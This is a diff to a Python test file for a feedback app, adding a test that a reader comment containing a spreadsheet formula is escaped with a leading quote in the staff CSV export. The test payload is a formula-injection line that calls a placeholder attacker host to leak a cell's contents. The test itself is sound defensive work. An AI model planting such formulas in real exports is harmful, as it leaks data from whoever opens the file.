@@ -3,7 +3,9 @@ and copy that file and `qa feedback` opens and closes it (issue 11: once, a copy
 the app dropped SQLite's locks, `qa feedback` then deleted the write-ahead log under the app, and ratings were lost)."""
 from __future__ import annotations
 
+import csv
 import hashlib
+import io
 import shutil
 import subprocess
 import sys
@@ -17,6 +19,7 @@ from ingest.store import DB_NAME
 from qa.feedback import FeedbackStore
 from running_app import PageSession, app_db, running_app
 
+pytestmark = pytest.mark.reliability  # `make reliability` runs these
 RATINGS = 12
 
 
@@ -93,3 +96,16 @@ def test_ratings_reported_saved_are_saved_while_others_read_the_file(site, tmp_p
 
 def _digest(path) -> str:
     return hashlib.sha256(path.read_bytes()).hexdigest()
+
+
+def test_a_reader_comment_is_no_formula_in_the_staff_export(site):
+    url, root, index = site
+    page = PageSession(url)
+    question = f"Who prepared the report? ({uuid.uuid4().hex[:8]})"
+    assert "is saved" in _rate(page, question)
+    formula = '=HYPERLINK("https://evil.invalid/?leak="&A1,"Click for details")'
+    commented = page.run("save_comment", [formula, None])
+    assert "comment is saved" in str(commented["output"]["data"])
+    rows = list(csv.DictReader(io.StringIO(_qa_feedback(app_db(root / "app.log"), index))))
+    (row,) = [r for r in rows if r["question"] == question]
+    assert row["comment"] == "'" + formula
